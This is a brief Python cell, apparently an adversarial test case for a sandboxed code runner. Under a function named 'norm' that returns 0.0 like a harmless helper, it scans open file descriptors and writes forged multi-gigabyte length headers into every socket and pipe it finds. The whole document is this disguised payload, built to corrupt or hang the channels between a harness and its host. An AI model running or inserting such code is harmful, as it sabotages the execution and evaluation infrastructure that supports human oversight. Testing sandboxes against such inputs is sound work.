"""Writes to every open socket and pipe the head of a message of many gigabytes.

Limits: seconds_a_cell=4
"""
# %% norm
import os
import stat
import struct


def norm(v):
    for number in range(3, 128):
        try:
            kind = os.fstat(number).st_mode
            if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
                os.set_blocking(number, False)
                for size in (2**31 - 1, 2**40):
                    os.write(number, struct.pack(">I", size % 2**32) + struct.pack("<Q", size) + struct.pack(">Q", size))
        except OSError:
            continue
    return 0.0
